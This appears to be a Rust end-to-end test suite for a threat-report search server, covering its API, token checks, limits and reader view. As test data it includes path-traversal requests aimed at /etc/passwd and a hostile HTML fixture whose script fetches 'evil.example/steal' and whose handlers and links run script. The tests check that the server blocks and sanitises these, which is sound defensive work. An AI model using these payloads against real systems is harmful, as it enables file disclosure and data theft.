//! `threatdex serve` end to end: the real binary on a free port, queried
//! over HTTP. The JSON API must print what the command line prints; the
//! server must refuse what it should refuse.

mod util;

use std::io::{BufRead, BufReader};
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};
use util::Env;

/// A running server, stopped when dropped.
struct Server {
    child: Child,
    base: String,
    agent: ureq::Agent,
}

impl Server {
    /// Starts `threatdex serve --addr 127.0.0.1:0 ARGS` and reads the bound
    /// address from its stderr.
    fn start(env: &Env, args: &[&str]) -> Server {
        let mut all = vec!["serve", "--addr", "127.0.0.1:0"];
        all.extend_from_slice(args);
        let mut child = env
            .cmd(&all)
            .stderr(Stdio::piped())
            .stdout(Stdio::null())
            .spawn()
            .expect("start threatdex serve");
        let mut stderr = BufReader::new(child.stderr.take().unwrap());
        let mut line = String::new();
        let base = loop {
            line.clear();
            let n = stderr.read_line(&mut line).unwrap();
            assert!(n > 0, "serve exited before listening");
            if let Some(i) = line.find("http://") {
                let url = line[i..].split_whitespace().next().unwrap();
                break url.trim_end_matches('/').to_string();
            }
        };
        // Keep draining stderr so the server never blocks on it.
        std::thread::spawn(move || {
            let mut sink = String::new();
            while stderr.read_line(&mut sink).map(|n| n > 0).unwrap_or(false) {
                sink.clear();
            }
        });
        Server {
            child,
            base,
            agent: ureq::AgentBuilder::new()
                .timeout(Duration::from_secs(30))
                .redirects(0)
                .build(),
        }
    }

    /// GET `path` with optional headers: (status, body, response).
    fn get_with(&self, path: &str, headers: &[(&str, &str)]) -> (u16, String, Headers) {
        let mut req = self.agent.get(&format!("{}{path}", self.base));
        for (k, v) in headers {
            req = req.set(k, v);
        }
        let resp = match req.call() {
            Ok(r) => r,
            Err(ureq::Error::Status(_, r)) => r,
            Err(e) => panic!("GET {path}: {e}"),
        };
        let status = resp.status();
        let headers = Headers(
            resp.headers_names()
                .into_iter()
                .map(|n| {
                    let v = resp.header(&n).unwrap_or("").to_string();
                    (n, v)
                })
                .collect(),
        );
        (status, resp.into_string().unwrap(), headers)
    }

    fn get(&self, path: &str) -> (u16, String) {
        let (s, b, _) = self.get_with(path, &[]);
        (s, b)
    }

    fn json(&self, path: &str) -> serde_json::Value {
        let (status, body) = self.get(path);
        assert_eq!(status, 200, "GET {path}: {body}");
        serde_json::from_str(&body).unwrap_or_else(|e| panic!("GET {path}: bad JSON {e}: {body}"))
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

struct Headers(Vec<(String, String)>);

impl Headers {
    fn get(&self, name: &str) -> Option<&str> {
        self.0
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

/// The API answers byte for byte what the command line prints.
#[test]
fn api_mirrors_the_command_line_json() {
    let env = Env::with_corpus();
    let server = Server::start(&env, &[]);
    let pairs: [(&str, &[&str]); 6] = [
        (
            "/api/search?q=sandworm&n=5",
            &["search", "sandworm", "-n", "5", "--json"],
        ),
        (
            "/api/search?actor=APT28&since=2016-01-01",
            &[
                "search",
                "--actor",
                "APT28",
                "--since",
                "2016-01-01",
                "--json",
            ],
        ),
        (
            "/api/facets?q=ukraine&by=actor&by=year&top=5",
            &[
                "facets", "ukraine", "--by", "actor", "--by", "year", "--top", "5", "--json",
            ],
        ),
        (
            "/api/facets?cross=actor,sector",
            &["facets", "--cross", "actor,sector", "--json"],
        ),
        (
            "/api/iocs?type=cve&n=20",
            &["iocs", "--type", "cve", "-n", "20", "--json"],
        ),
        (
            "/api/actor/fancy%20bear",
            &["actor", "fancy", "bear", "--json"],
        ),
    ];
    for (path, args) in pairs {
        let (status, body) = server.get(path);
        assert_eq!(status, 200, "GET {path}: {body}");
        let cli = env.ok(args);
        assert_eq!(body, cli, "GET {path} differs from threatdex {args:?}");
    }
    let hits = server.json("/api/search?q=sandworm&n=5");
    assert!(hits["total"].as_u64().unwrap() > 0, "{hits}");
}

/// A document is fetched by its id in the index; nothing else names a file.
#[test]
fn documents_by_id_only() {
    let env = Env::with_corpus();
    let server = Server::start(&env, &[]);
    let hits = server.json("/api/search?q=industroyer2&n=1");
    let hit = &hits["hits"][0];
    let id = hit["id"].as_str().unwrap();
    assert_eq!(id.len(), 64, "{hit}");
    let doc = server.json(&format!("/api/doc/{id}"));
    assert_eq!(doc["path"], hit["path"]);
    assert_eq!(doc["title"], hit["title"]);
    assert!(doc["text"].as_str().unwrap().len() > 500, "{doc}");
    assert_eq!(doc["actors"], hit["actors"]);

    let (status, body) = server.get(&format!("/api/doc/{}", "0".repeat(64)));
    assert_eq!(status, 404, "{body}");
    assert!(body.contains("\"error\""), "{body}");
    for attempt in [
        "/api/doc/..%2F..%2F..%2Fetc%2Fpasswd",
        "/api/doc/%2Fetc%2Fpasswd",
        "/doc/..%2F..%2Fetc%2Fpasswd",
        "/doc/../../../../etc/passwd",
        "/assets/..%2F..%2FCargo.toml",
        "/assets/../../../etc/passwd",
    ] {
        let (status, body) = server.get(attempt);
        assert!(status == 404 || status == 400, "{attempt}: {status} {body}");
        assert!(!body.contains("root:"), "{attempt} leaked a file: {body}");
        assert!(
            !body.contains("[package]"),
            "{attempt} leaked a file: {body}"
        );
    }
}

/// Anything but loopback needs a token, and a token is checked on every
/// request.
#[test]
fn token_is_required_and_checked() {
    let env = Env::with_corpus();
    let out = env.run(&["serve", "--addr", "0.0.0.0:0"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("--token"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = env.run(&["serve", "--addr", "127.0.0.1:0", "--token", "short"]);
    assert_eq!(out.status.code(), Some(2));

    let token = "a-long-enough-test-token-1234";
    let server = Server::start(&env, &["--token", token]);
    for path in ["/api/search?q=x", "/", "/assets/app.js", "/api/doc/x"] {
        let (status, body, headers) = server.get_with(path, &[]);
        assert_eq!(status, 401, "{path}: {body}");
        assert!(headers.get("www-authenticate").is_some());
        let (status, _, _) = server.get_with(
            path,
            &[("Authorization", "Bearer a-long-enough-test-token-1235")],
        );
        assert_eq!(status, 401, "{path} with a wrong token");
    }
    let bearer = format!("Bearer {token}");
    let (status, body, _) =
        server.get_with("/api/search?q=sandworm", &[("Authorization", &bearer)]);
    assert_eq!(status, 200, "{body}");
    // A browser opens the page once with ?token=, then carries the cookie.
    let (status, _, headers) = server.get_with(&format!("/?token={token}"), &[]);
    assert_eq!(status, 200);
    let cookie = headers.get("set-cookie").expect("token cookie").to_string();
    assert!(
        cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
        "{cookie}"
    );
    let pair = cookie.split(';').next().unwrap();
    let (status, _, _) = server.get_with("/api/search?q=x", &[("Cookie", pair)]);
    assert_eq!(status, 200);
}

/// Oversized and malformed requests are refused with a reason; the server
/// goes on serving.
#[test]
fn limits_are_enforced() {
    let env = Env::with_corpus();
    let server = Server::start(&env, &[]);
    let long_query = format!("/api/search?q={}", "a".repeat(3_000));
    let (status, body) = server.get(&long_query);
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("too long"), "{body}");
    let (status, body) = server.get(&format!("/api/search?q={}", "b".repeat(9_000)));
    assert_eq!(status, 414, "{body}");
    let (status, body) = server.get("/api/search?q=x&n=100000");
    assert_eq!(status, 400, "{body}");
    let (status, body) = server.get("/api/search?actor=no-such-actor-anywhere");
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("unknown actor"), "{body}");
    let (status, body) = server.get("/api/search?q=%28%28%28");
    assert_eq!(status, 400, "{body}");
    let many: String = (0..100).map(|i| format!("&cve=CVE-2024-{i:04}")).collect();
    let (status, _) = server.get(&format!("/api/search?q=x{many}"));
    assert_eq!(status, 400);
    let resp = server
        .agent
        .post(&format!("{}/api/search", server.base))
        .send_string("x");
    match resp {
        Err(ureq::Error::Status(405, _)) => {}
        other => panic!("POST answered {other:?}"),
    }
    // Still serving.
    assert!(
        server.json("/api/search?q=sandworm")["total"]
            .as_u64()
            .unwrap()
            > 0
    );
}

/// The search page: hits, chips, facets counted disjunctively, timeline.
#[test]
fn search_page_has_hits_facets_and_timeline() {
    let env = Env::with_corpus();
    let server = Server::start(&env, &[]);
    let (status, page, headers) = server.get_with("/?q=ukraine", &[]);
    assert_eq!(status, 200);
    assert!(headers
        .get("content-type")
        .unwrap()
        .starts_with("text/html"));
    let csp = headers.get("content-security-policy").unwrap();
    assert!(csp.contains("script-src 'self'"), "{csp}");
    assert!(
        page.contains(r#"class="title" href="/doc/"#),
        "no hit links"
    );
    assert!(page.contains("<mark>"), "no highlighted snippet");
    assert!(page.contains(r#"data-key="actor""#), "no actor facet");
    assert!(page.contains(r#"class="month"#), "no timeline");
    for remote in ["src=\"http", "src=\"//", "href=\"//", "@import", "url(http"] {
        assert!(!page.contains(remote), "the page fetches {remote}…");
    }

    // Pick the most reported actor; the actor facet still lists the others
    // with the counts they have without that filter.
    let all = server.json("/api/facets?q=ukraine&by=actor&top=3");
    let top = all["facets"]["actor"].as_array().unwrap();
    assert!(top.len() >= 2, "{all}");
    let first = top[0]["value"].as_str().unwrap();
    let second = top[1]["value"].as_str().unwrap();
    let second_count = top[1]["count"].as_u64().unwrap();
    let filtered = server
        .get(&format!("/?q=ukraine&actor={}", first.replace(' ', "+")))
        .1;
    let actor_section = filtered
        .split(r#"data-key="actor""#)
        .nth(1)
        .unwrap()
        .split("</section>")
        .next()
        .unwrap();
    let entry =
        format!(r#"<span class="name">{second}</span><span class="count">{second_count}</span>"#);
    assert!(
        actor_section.contains(&entry),
        "{entry} missing from {actor_section}"
    );
    assert!(
        actor_section.contains(r#"class="fv on""#),
        "selected actor not marked"
    );
    let total_filtered = server.json(&format!(
        "/api/search?q=ukraine&actor={}",
        first.replace(' ', "+")
    ))["total"]
        .as_u64()
        .unwrap();
    assert!(filtered.contains(&format!(r#"<strong id="total">{total_filtered}</strong>"#)));
}

/// The reader view shows the article's own markup, sanitised, with the
/// query's words marked; a hostile page loses its scripts and handlers.
#[test]
fn reader_view_is_clean_and_marked() {
    let env = Env::with_corpus();
    env.write(
        "extra/hostile.html",
        r#"<!DOCTYPE html><html><head><title>Hostile loader report</title>
<script>fetch('https://evil.example/steal')</script>
<link rel="stylesheet" href="https://evil.example/x.css"></head><body>
<nav><a href="/">Home</a><a href="/about">About us</a></nav>
<article><h1>Hostile loader report</h1>
<h2 onclick="steal()">How the loader works</h2>
<p>The loader arrives as an attachment and unpacks a second stage from its resources before contacting the server.</p>
<p>It then <a href="javascript:alert(1)">runs a script</a> and loads <img src="https://evil.example/pixel.gif" onerror="steal()"> a tracking pixel in the victim's browser session.</p>
<ul><li>Persistence through a scheduled task named after an updater.</li><li>Command and control over HTTPS to a rotating set of domains.</li></ul>
<table><tr><th>Indicator</th><th>Type</th></tr><tr><td>loader.evil.example</td><td>domain</td></tr></table>
<iframe src="https://evil.example/frame"></iframe>
<p style="background:url(https://evil.example/bg.png)">Defenders should hunt for the scheduled task and block the listed domains at the proxy.</p>
<p>See the <a href="https://vendor.example/advisory">vendor advisory</a> for details.</p>
</article><footer>Site footer with copyright text and many links to other sections.</footer></body></html>"#,
    );
    env.ok(&[
        "index",
        "-q",
        env.dir.path().join("extra").to_str().unwrap(),
    ]);
    let server = Server::start(&env, &[]);
    let hits = server.json("/api/search?q=hostile&n=1");
    let id = hits["hits"][0]["id"].as_str().unwrap().to_string();
    let (status, page) = server.get(&format!("/doc/{id}?q=loader"));
    assert_eq!(status, 200, "{page}");
    let content = page.split(r#"<div class="content">"#).nth(1).unwrap();
    for gone in [
        "<script",
        "onclick",
        "onerror",
        "javascript:",
        "evil.example/pixel",
        "<iframe",
        "style=",
        "About us",
        "Site footer",
        "x.css",
    ] {
        assert!(
            !page.contains(gone) || !content.contains(gone),
            "{gone} survived: {content}"
        );
        assert!(!content.contains(gone), "{gone} survived: {content}");
    }
    assert!(!page.contains("evil.example/steal"));
    for kept in [
        "<h2>How the",
        "<li>Persistence",
        ".evil.example</td>",
        r#"href="https://vendor.example/advisory""#,
        "<mark>loader</mark>",
    ] {
        assert!(content.contains(kept), "{kept} lost: {content}");
    }
    assert!(page.contains("file://"), "no link to the file");
}

/// A Markdown report renders as Markdown in the reader view.
#[test]
fn markdown_reports_render() {
    let env = Env::new();
    env.write(
        "r/2024-05-01-report.md",
        "# Campaign notes\n\nThe **operators** used a loader.\n\n## Indicators\n\n- evil-domain.example\n- 203.0.113.9\n\nMore text about the loader and its second stage here.\n",
    );
    env.ok(&["index", "-q", env.dir.path().join("r").to_str().unwrap()]);
    let server = Server::start(&env, &[]);
    let hits = server.json("/api/search?q=loader");
    let id = hits["hits"][0]["id"].as_str().unwrap().to_string();
    let (_, page) = server.get(&format!("/doc/{id}"));
    let content = page.split(r#"<div class="content">"#).nth(1).unwrap();
    assert!(content.contains("<h2>Indicators</h2>"), "{content}");
    assert!(content.contains("<strong>operators</strong>"), "{content}");
    assert!(
        content.contains("<li>evil-domain.example</li>"),
        "{content}"
    );
}

/// A second `index` run while serving: the server sees its commit without
/// a restart.
#[test]
fn new_commits_are_picked_up() {
    let env = Env::new();
    env.write(
        "a/first.md",
        "# First\n\nA report about the zebrafish campaign.\n",
    );
    env.ok(&["index", "-q", env.dir.path().join("a").to_str().unwrap()]);
    let server = Server::start(&env, &[]);
    assert_eq!(server.json("/api/search?q=zebrafish")["total"], 1);
    env.write(
        "a/second.md",
        "# Second\n\nMore on the zebrafish campaign.\n",
    );
    env.ok(&["index", "-q", env.dir.path().join("a").to_str().unwrap()]);
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let total = server.json("/api/search?q=zebrafish")["total"]
            .as_u64()
            .unwrap();
        if total == 2 {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the new commit was not seen (total {total})"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// The actor page and the downloads of the current view.
#[test]
fn actor_page_and_downloads() {
    let env = Env::with_corpus();
    let server = Server::start(&env, &[]);
    let (status, page) = server.get("/actor/fancy%20bear");
    assert_eq!(status, 200);
    assert!(page.contains("<h1>APT28</h1>"), "no card");
    assert!(
        page.contains("attack.mitre.org/groups/G0007"),
        "no ATT&CK link"
    );
    assert!(page.contains(r#"class="title" href="/doc/"#), "no reports");
    assert_eq!(server.get("/actor/nobody-at-all").0, 400);

    let (status, report, headers) = server.get_with("/report?q=ukraine", &[]);
    assert_eq!(status, 200);
    assert!(report.contains("<svg"), "no charts");
    assert!(headers
        .get("content-security-policy")
        .unwrap()
        .contains("'unsafe-inline'"));
    let (status, md, headers) = server.get_with("/report.md?actor=APT28", &[]);
    assert_eq!(status, 200);
    assert!(md.starts_with("# "), "{md}");
    assert!(headers
        .get("content-disposition")
        .unwrap()
        .contains("attachment"));
    let stix = server.json("/export/stix.json?actor=APT28");
    assert_eq!(stix["type"], "bundle");
    let (_, csv) = server.get("/export/iocs.csv?q=ukraine");
    assert!(csv.starts_with("type,value,scope,role,reports"), "{csv}");
    let (_, csv) = server.get("/export/facets.csv");
    assert!(csv.lines().count() > 5, "{csv}");
}

/// `show N` prints the Nth hit of the last search for the terminal; plain
/// when piped.
#[test]
fn show_prints_the_last_searchs_hits() {
    let env = Env::with_corpus();
    let hits = env.json(&["search", "industroyer2", "-n", "3"]);
    let title = hits["hits"][0]["title"].as_str().unwrap().to_string();
    let out = env.ok(&["show", "1", "--width", "60"]);
    assert!(out.starts_with(&title), "{out}");
    assert!(!out.contains('\x1b'), "colour when piped");
    // Below the title and the line of date, URL and path: wrapped to 60
    // columns (a footnote's URL or one long word may overflow).
    let body = out.split_once("\n\n").unwrap().1;
    assert!(
        body.lines()
            .all(|l| l.chars().count() <= 60 || l.starts_with('[') || !l.contains(' ')),
        "{out}"
    );
    assert!(out.to_lowercase().contains("industroyer2"));
    let out = env.run(&["show", "99"]);
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let md = env.write(
        "x/notes.md",
        "# Notes\n\n## Section\n\n- one [link](https://example.com/a)\n",
    );
    let out = env.ok(&["show", md.to_str().unwrap()]);
    assert!(out.contains("## Section"), "{out}");
    assert!(out.contains("* one"), "{out}");
    assert!(out.contains("https://example.com/a"), "{out}");
}
